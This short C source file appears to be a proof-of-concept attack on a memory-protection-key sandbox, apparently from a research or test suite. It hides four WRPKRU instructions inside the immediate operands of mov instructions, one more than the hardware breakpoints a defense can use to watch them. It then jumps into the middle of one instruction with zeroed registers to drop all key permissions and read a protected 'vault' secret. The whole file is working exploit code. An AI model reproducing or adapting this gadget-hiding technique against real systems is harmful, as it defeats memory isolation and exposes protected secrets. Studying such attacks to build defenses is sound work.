/* Four WRPKRUs hidden inside other instructions: one more than the
 * hardware breakpoints that can watch them. */
#include "attack.h"

#define HOST(n) \
    __asm__(".text\n.globl host" #n "\n.type host" #n ", @function\nhost" #n ":\n" \
            "    movl $0xc3ef010f, %eax\n    ret\n.size host" #n ", .-host" #n "\n"); \
    void host##n(void);
HOST(1)
HOST(2)
HOST(3)
HOST(4)

static const volatile uint8_t *steal(void *cell)
{
    void *gadget = (char *)host4 + 1;
    __asm__ volatile("xor %%eax, %%eax\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n call *%0"
                     ::"r"(gadget) : "rax", "rcx", "rdx", "memory");
    return ((struct vault_cell *)cell)->secret;
}

int main(void)
{
    vault_open();
    steal_in_child(steal, vault_address(VAULT_DATA));
}
